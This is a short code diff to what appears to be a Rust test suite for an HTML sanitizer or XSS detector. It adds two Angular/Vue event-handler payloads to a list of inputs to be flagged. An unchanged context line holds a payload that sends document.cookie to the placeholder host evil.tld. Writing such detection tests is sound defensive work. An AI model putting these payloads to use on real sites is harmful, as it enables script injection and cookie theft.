@@ -989,6 +989,8 @@ fn framework_event_reaches_the_window_through_event_view() {
             "<x @click=\"$event.view.alert(1)\">x</x>",
             "<x ng-dblclick=\"$event.view.location='//evil.tld/?'+$event.view.document.cookie\">x</x>",
             "<img src=x ng-on-error=\"$event.view.alert(1)\">",
+            "<x ng-click=\"$event.view['alert'](1)\">x</x>",
+            "<x v-on:click.prevent=\"$event.view.setTimeout('alert(1)')\">x</x>",
         ],
         &[
             "<button ng-click=\"save($event)\">Save</button>",
